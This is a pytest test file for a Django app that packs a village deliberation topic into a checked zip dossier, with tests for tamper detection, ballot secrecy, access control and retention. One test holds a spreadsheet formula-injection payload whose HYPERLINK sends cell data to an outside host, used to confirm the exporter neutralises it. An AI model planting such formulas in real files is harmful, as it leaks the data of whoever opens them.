"""The papers of a topic as a file: what lies in it, what never does, who may have it, how it is checked."""

from __future__ import annotations

import hashlib
import json
import re
from datetime import timedelta
from typing import TYPE_CHECKING, Any

import pytest
from django.core.files.storage import default_storage

from linli.kernel import clock, journal
from linli.kernel.policy import NotAllowedError
from linli.kernel.roles import Role
from linli.modules.accounts.testing import an_actor, an_appointment
from linli.modules.deliberation.dossier.checking import NoPackError, pack_check
from linli.modules.deliberation.dossier.gathering import parts_of
from linli.modules.deliberation.dossier_events import DossierAsked, DossierPacked, DossierTaken
from linli.modules.deliberation.jobs import erase_packs
from linli.modules.deliberation.models import Ballot, DossierPack, Topic, Vote
from linli.modules.deliberation.services.dossiers import (
    KEPT,
    dossier_ask,
    dossier_make,
    dossier_take,
    dossiers_erase_due,
    path_of,
)
from linli.modules.deliberation.services.project_money import vouchers_add
from linli.modules.deliberation.testing import a_village_of, an_open_vote, cast, closed
from linli.modules.deliberation.tests.carried_out import a_project, spend
from linli.modules.deliberation.tests.commons import (
    a_commons,
    a_meeting,
    a_photo,
    a_road,
    an_officer,
    before_deciding,
    meet,
    representatives_meet,
    sign,
)
from linli.modules.deliberation.tests.dossier_reading import Opened, a_zip, opened, packed, read_zip
from linli.modules.deliberation.tests.hamlet import Hamlet, a_hamlet, browser_of
from linli.modules.deliberation.tests.test_photos_of_ballots import brought_in
from linli.modules.places.testing import HETIAN
from linli.modules.population.testing import a_person

if TYPE_CHECKING:
    from pathlib import Path

    from psycopg import Connection
    from pytest_django.fixtures import Settings

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _own_storage(settings: Settings, tmp_path: Path) -> None:
    local = {"BACKEND": "django.core.files.storage.FileSystemStorage", "OPTIONS": {"location": tmp_path}}
    settings.STORAGES = {**settings.STORAGES, "default": local}


@pytest.fixture
def hamlet() -> Hamlet:
    built = a_hamlet()
    built.now = clock.now()  # after everybody has their office
    return built


def test_the_page_in_the_pack_asks_nobody_for_anything() -> None:
    commons, now = a_commons(), clock.now()
    topic = a_road(commons, now=now)
    meet(commons, topic, a_meeting(now), now=now)

    page = opened(commons.clerk, topic.pk, now).page

    sources = re.findall(r'(?:src|href|action)\s*=\s*"([^"]*)"', page)
    assert sources
    assert all(one.startswith("data:image/jpeg;base64,") for one in sources)
    assert "<script" not in page
    assert "<link" not in page
    assert "@import" not in page
    assert "url(" not in page
    assert "default-src 'none'" in page
    assert "村口到礼堂的路加宽一米" in page
    assert "路要加宽，先用集体的钱。" in page


def test_the_manifest_names_every_file_with_its_digest() -> None:
    commons, now = a_commons(), clock.now()
    topic = a_road(commons, now=now)
    meet(commons, topic, a_meeting(now), now=now)

    pack = opened(commons.clerk, topic.pk, now)

    said = {line["path"]: line["sha256"] for line in pack.manifest["files"]}
    there = {
        path: hashlib.sha256(content).hexdigest() for path, content in pack.files.items() if path != "manifest.json"
    }
    assert said == there
    assert any(path.startswith("照片/") for path in said)
    assert pack.manifest["topic"] == topic.number


def test_steps_meetings_and_signatures_are_in_the_workbook() -> None:
    commons, now = a_commons(), clock.now()
    topic = before_deciding(commons, now=now)
    meet(commons, topic, representatives_meet(now), now=now)
    sign(commons, topic, now=now)

    sheets = opened(commons.clerk, topic.pk, now).sheets

    assert len(sheets["会议"]) == 1 + 4
    held = dict(zip(sheets["会议"][0], sheets["会议"][1], strict=True))
    assert (held["应到"], held["实到"], held["同意"], held["不同意"]) == (7, 7, 6, 1)
    assert held["纪要"] == "路要加宽，先用集体的钱。"
    assert "张美娟" in sheets["签字"][1]
    assert sheets["步骤"][1][0] == 1


def test_a_text_that_begins_like_a_formula_stays_a_text() -> None:
    commons, now = a_commons(), clock.now()
    topic = a_road(commons, now=now)
    evil = '=HYPERLINK("http://example.org/?"&A1,"看")'
    meet(commons, topic, a_meeting(now, minutes=evil, where="@SUM(1)", convened_by="+86 书记"), now=now)

    pack = opened(commons.clerk, topic.pk, now)

    inside = read_zip(pack.files["议事档案.xlsx"])
    cells = b"".join(content for path, content in inside.items() if "/worksheets/" in path)
    assert b"<f>" not in cells
    assert b"<hyperlink" not in cells
    assert b'quotePrefix="1"' in inside["xl/styles.xml"]
    assert evil in pack.sheets["会议"][1]


@pytest.fixture
def village_closed(owner: Connection[Any]) -> tuple[Any, Vote]:
    village = a_village_of(6)
    vote = an_open_vote(village)
    for head, choice in zip(village.heads, ("for", "for", "against", "for", "abstain"), strict=False):
        cast(head, vote, choice)
    return village, closed(vote, owner)


@pytest.fixture
def owner(owner_connection: Connection[Any]) -> Connection[Any]:
    owner_connection.autocommit = True
    return owner_connection


@pytest.mark.django_db(transaction=True)
def test_ballots_of_a_named_vote_are_there_and_not_joined_to_names(village_closed: tuple[Any, Vote]) -> None:
    village, vote = village_closed

    pack = opened(village.collector, vote.stage.topic_id, clock.now())

    roll, ballots = pack.sheets["表决1·名册"], pack.sheets["表决1·票"]
    receipts = set(Ballot.objects.filter(vote=vote).values_list("receipt", flat=True))
    assert {row[0] for row in ballots[1:]} == receipts
    assert [row[2] for row in roll[1:]] == [f"户主{number}" for number in range(1, 7)]
    assert [row[0] for row in ballots[1:]] == sorted(receipts)
    flat = [str(cell) for row in roll for cell in row]
    assert not receipts & set(flat)
    assert not {"同意", "不同意", "弃权"} & set(flat)
    assert not any("户主" in str(cell) for row in ballots for cell in row)
    assert not any(f"户主{number}" in json.dumps(pack.tally()) for number in range(1, 7))
    results = dict(row[:2] for row in pack.sheets["表决1·结果"])
    assert (results["同意"], results["不同意"], results["名册上"], results["参加"]) == (3, 1, 6, 5)


@pytest.mark.django_db(transaction=True)
def test_nothing_in_the_pack_of_a_secret_vote_joins_who_and_what(owner: Connection[Any]) -> None:
    village = a_village_of(7)
    vote = an_open_vote(village, ballot_kind="secret")
    receipts = [
        cast(head, vote, choice) for head, choice in zip(village.heads, ("for", "against", "for", "for"), strict=False)
    ]
    while_open = opened(village.collector, vote.stage.topic_id, clock.now())
    assert not [path for path in while_open.files if path.startswith("计票/")]
    assert set(while_open.sheets) == {"步骤", "会议", "签字", "表决1·名册"}
    closed(vote, owner)

    pack = opened(village.collector, vote.stage.topic_id, clock.now())

    sheets = pack.sheets
    assert [row[0] for row in sheets["表决1·回执"][1:]] == sorted(receipts)
    leaves = [row[4] for row in sheets["表决1·票"][1:]]
    assert leaves == sorted(leaves)
    assert all(row[0] == "" for row in sheets["表决1·票"][1:])
    assert not set(receipts) & {cell for row in sheets["表决1·名册"] for cell in row}
    said = pack.tally()
    assert said["receipts"] == sorted(receipts)
    assert [line[0] for line in said["ballots"]] == [""] * 4
    assert [line[3] for line in said["ballots"]] == sorted(line[3] for line in said["ballots"])


@pytest.mark.django_db(transaction=True)
def test_the_pack_alone_is_enough_to_count_again(village_closed: tuple[Any, Vote], tmp_path: Path) -> None:
    village, vote = village_closed
    pack = opened(village.collector, vote.stage.topic_id, clock.now())
    path = tmp_path / "whole.zip"
    path.write_bytes(pack.content)

    checked = pack_check(path)

    assert (checked.votes, checked.faults) == (1, ())
    assert checked.files == len(pack.files) - 1


@pytest.mark.django_db(transaction=True)
def test_one_ballot_changed_in_the_pack_is_named_even_with_a_manifest_made_anew(
    village_closed: tuple[Any, Vote], tmp_path: Path
) -> None:
    village, vote = village_closed
    pack = opened(village.collector, vote.stage.topic_id, clock.now())
    changed = pack.tally()
    ballot = next(line for line in changed["ballots"] if line[1] == "against")
    ballot[1] = "for"
    files = {**pack.files, "计票/1.json": json.dumps(changed).encode()}

    seen = _checked(files, tmp_path)
    assert "计票/1.json: it was changed" in seen
    assert f"计票/1.json: ballot {ballot[0]} was changed" in seen

    lines = [{**line, "sha256": hashlib.sha256(files[line["path"]]).hexdigest()} for line in pack.manifest["files"]]
    files["manifest.json"] = json.dumps({**pack.manifest, "files": lines}).encode()
    seen = _checked(files, tmp_path)
    assert "计票/1.json: it was changed" not in seen
    assert f"计票/1.json: ballot {ballot[0]} was changed" in seen


def test_a_file_changed_taken_away_or_added_is_named(tmp_path: Path) -> None:
    commons, now = a_commons(), clock.now()
    topic = a_road(commons, now=now)
    meet(commons, topic, a_meeting(now), now=now)
    pack = opened(commons.clerk, topic.pk, now)
    photo = next(path for path in pack.files if path.startswith("照片/"))

    assert _checked({**pack.files, photo: b"x"}, tmp_path) == (f"{photo}: it was changed",)
    assert _checked({**pack.files, "多.txt": b"x"}, tmp_path) == ("多.txt: it was added",)
    less = {path: content for path, content in pack.files.items() if path != photo}
    assert _checked(less, tmp_path) == (f"{photo}: it is missing",)
    (tmp_path / "none.zip").write_bytes(a_zip({"a.txt": b"x"}))
    with pytest.raises(NoPackError):
        pack_check(tmp_path / "none.zip")


def _checked(files: dict[str, bytes], folder: Path) -> tuple[str, ...]:
    path = folder / "other.zip"
    path.write_bytes(a_zip(files))
    return pack_check(path).faults


def test_photos_of_ballots_are_not_in_the_pack(hamlet: Hamlet) -> None:
    vote = hamlet.opened()
    brought_in(hamlet, vote, photos=2)

    pack = opened(hamlet.clerk, hamlet.topic.pk, hamlet.now)

    assert not [path for path in pack.files if path.endswith(".jpg")]


def test_whoever_sees_less_on_the_page_gets_less_in_the_pack() -> None:
    commons, now = a_commons(), clock.now()
    project = a_project(commons.clerk, now=now)
    line = spend(commons.clerk, project.pk, "expense", 680_000, now=now).line
    vouchers_add(actor=commons.clerk, project_id=project.pk, line=line, uploads=[a_photo()], is_shown=False, now=now)
    topic = Topic.objects.get(pk=project.topic_id)
    neighbour = an_officer(Role.GRID_WORKER, f"{topic.village}001", "网格员")

    whole = parts_of(actor=commons.clerk, topic=topic, now=now)
    covered = parts_of(actor=neighbour, topic=topic, now=now)

    assert [part.path for part in whole if "/凭证/" in part.path]
    assert not [part.path for part in covered if "/凭证/" in part.path]
    named, hidden = (
        Opened(a_zip({part.path: part.content for part in parts} | {"manifest.json": b"{}"})).sheets["项目1·钱"]
        for parts in (whole, covered)
    )
    assert named[1][5] == "王秀芳"
    assert hidden[1][5] != "王秀芳"


def test_members_and_other_villages_get_no_pack(hamlet: Hamlet) -> None:
    far = an_officer(Role.VILLAGE_CLERK, HETIAN)
    with pytest.raises(NotAllowedError):
        dossier_ask(actor=hamlet.heads[0], topic_id=hamlet.topic.pk, now=hamlet.now)
    with pytest.raises(NotAllowedError):
        dossier_ask(actor=hamlet.grid_worker, topic_id=hamlet.topic.pk, now=hamlet.now)
    with pytest.raises(Topic.DoesNotExist):
        dossier_ask(actor=far, topic_id=hamlet.topic.pk, now=hamlet.now)


def test_a_pack_belongs_to_whoever_asked_for_it(hamlet: Hamlet) -> None:
    pack = packed(hamlet.clerk, hamlet.topic.pk, hamlet.now)

    with pytest.raises(DossierPack.DoesNotExist):
        dossier_take(actor=hamlet.secretary, topic_id=hamlet.topic.pk, pack_id=pack.pk, now=hamlet.now)
    address = f"/console/deliberation/{hamlet.topic.pk}/dossier/packs/{pack.pk}"
    assert browser_of(hamlet.secretary).get(address).status_code == 404
    assert browser_of(hamlet.heads[0]).get(address).status_code == 403
    answer = browser_of(hamlet.clerk).get(address)
    assert hashlib.sha256(b"".join(answer)).hexdigest() == pack.digest
    assert answer["Cache-Control"] == "private, no-store"


def test_asking_making_and_taking_are_journalled(hamlet: Hamlet) -> None:
    pack = packed(hamlet.clerk, hamlet.topic.pk, hamlet.now)
    dossier_take(actor=hamlet.clerk, topic_id=hamlet.topic.pk, pack_id=pack.pk, now=hamlet.now)

    told = [
        event
        for event in journal.events_of_subject(place=hamlet.topic.village, subject=("topic", hamlet.topic.pk))
        if "dossier" in event.kind
    ]
    assert [event.kind for event in told] == [DossierAsked.kind, DossierPacked.kind, DossierTaken.kind]
    assert told[2].payload["digest"] == pack.digest


def test_whoever_lost_the_office_meanwhile_gets_nothing(hamlet: Hamlet) -> None:
    person = a_person("代班的")
    office = an_appointment(person.id, Role.VILLAGE_CLERK, hamlet.topic.village)
    pack = dossier_ask(actor=an_actor(person.id), topic_id=hamlet.topic.pk, now=hamlet.now)
    office.ended_at = hamlet.now
    office.save()

    assert not dossier_make(pack_id=pack.pk, now=hamlet.now)

    pack.refresh_from_db()
    assert (pack.state, pack.token) == ("failed", "")


def test_asking_twice_packs_once(hamlet: Hamlet) -> None:
    first = dossier_ask(actor=hamlet.clerk, topic_id=hamlet.topic.pk, now=hamlet.now)
    assert dossier_ask(actor=hamlet.clerk, topic_id=hamlet.topic.pk, now=hamlet.now) == first
    assert dossier_ask(actor=hamlet.secretary, topic_id=hamlet.topic.pk, now=hamlet.now) != first
    assert dossier_make(pack_id=first.pk, now=hamlet.now)
    assert not dossier_make(pack_id=first.pk, now=hamlet.now)


def test_after_three_days_pack_and_file_are_gone(hamlet: Hamlet) -> None:
    pack = packed(hamlet.clerk, hamlet.topic.pk, hamlet.now)
    assert erase_packs(timestamp=0) == 0
    later = hamlet.now + KEPT + timedelta(seconds=1)
    with pytest.raises(DossierPack.DoesNotExist):
        dossier_take(actor=hamlet.clerk, topic_id=hamlet.topic.pk, pack_id=pack.pk, now=later)

    assert dossiers_erase_due(now=later) == 1

    assert not default_storage.exists(path_of(pack.token))
    assert not DossierPack.objects.exists()


def test_the_page_shows_how_far_it_is_and_then_the_file(hamlet: Hamlet) -> None:
    browser, here = browser_of(hamlet.clerk), f"/console/deliberation/{hamlet.topic.pk}/dossier/packs"
    assert "开始打包" in browser.get(here).content.decode()
    assert browser.post(here).status_code == 303
    pack = DossierPack.objects.get()
    DossierPack.objects.update(state="making", done=5, total=20)

    part = browser.get(here, headers={"HX-Request": "true"}).content.decode()
    assert "5 / 20 份" in part
    assert "<html" not in part

    dossier_make(pack_id=pack.pk, now=hamlet.now)
    answer = browser.get(here, headers={"HX-Request": "true"})
    assert answer["HX-Refresh"] == "true"
    assert f"{here}/{pack.pk}" in answer.content.decode()
